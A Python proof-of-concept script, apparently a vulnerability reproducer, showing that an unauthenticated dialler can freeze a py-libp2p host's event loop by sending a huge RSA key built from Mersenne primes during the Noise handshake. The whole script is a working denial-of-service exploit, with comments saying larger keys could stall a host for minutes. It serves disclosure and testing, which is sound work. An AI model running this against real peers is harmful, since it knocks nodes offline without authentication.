"""An unauthenticated dialler freezes a host for seconds: its identity "public" key is private."""

import sys

import trio
from Crypto.Util.asn1 import DerSequence
from libp2p import new_host
from libp2p.crypto.ed25519 import create_new_key_pair
from libp2p.crypto.pb import crypto_pb2
from libp2p.crypto.x25519 import create_new_key_pair as create_x25519_key_pair
from libp2p.peer.peerinfo import PeerInfo
from libp2p.security.noise.patterns import PatternXX
from libp2p.security.noise.pb import noise_pb2
from libp2p.security.noise.transport import PROTOCOL_ID as NOISE_ID
from libp2p.security.noise.transport import Transport as Noise
from multiaddr import Multiaddr

# Mersenne primes, so that every round of every primality test is run. 2^9689-1 and 2^9941-1 give
# 20,000 bits and 11 KB of key; a Noise message has room for 100,000 bits and many minutes.
P, Q, E = 2**9689 - 1, 2**9941 - 1, 65537
FROZEN_S = 1.0


def build_identity_key() -> bytes:
    d = pow(E, -1, (P - 1) * (Q - 1))
    numbers = [0, P * Q, E, d, P, Q, d % (P - 1), d % (Q - 1), pow(Q, -1, P)]
    private_key = DerSequence(numbers).encode()
    return crypto_pb2.PublicKey(key_type=crypto_pb2.RSA, data=private_key).SerializeToString()


class HostilePayload:
    def serialize(self) -> bytes:
        payload = noise_pb2.NoiseHandshakePayload(
            identity_key=build_identity_key(), identity_sig=b"x"
        )
        return payload.SerializeToString()


class HostilePattern(PatternXX):
    def make_handshake_payload(self, extensions=None):
        return HostilePayload()


class HostileNoise(Noise):
    def get_pattern(self):
        return HostilePattern(self.local_peer, self.libp2p_privkey, self.noise_privkey, None)


def build_host(transport):
    keys = create_new_key_pair()
    noise = transport(keys, noise_privkey=create_x25519_key_pair().private_key)
    return new_host(key_pair=keys, sec_opt={NOISE_ID: noise})


async def watch_the_loop(gaps):
    while True:
        before = trio.current_time()
        await trio.sleep(0.01)
        gaps.append(trio.current_time() - before)


async def main():
    listen = [Multiaddr("/ip4/127.0.0.1/tcp/0")]
    victim, attacker = build_host(Noise), build_host(HostileNoise)
    gaps = []
    async with victim.run(listen), attacker.run(listen), trio.open_nursery() as nursery:
        nursery.start_soon(watch_the_loop, gaps)
        with trio.move_on_after(20):
            try:
                await attacker.connect(PeerInfo(victim.get_id(), victim.get_addrs()))
                # The dialler is done before the listener reads its key.
                await trio.sleep(3)
            except Exception as error:
                print("the dialler saw:", repr(error)[:80])
        nursery.cancel_scope.cancel()
    print(f"the event loop stood still for {max(gaps):.1f} s, before anybody was authenticated")
    return 0 if max(gaps) > FROZEN_S else 1


if __name__ == "__main__":
    sys.exit(trio.run(main))
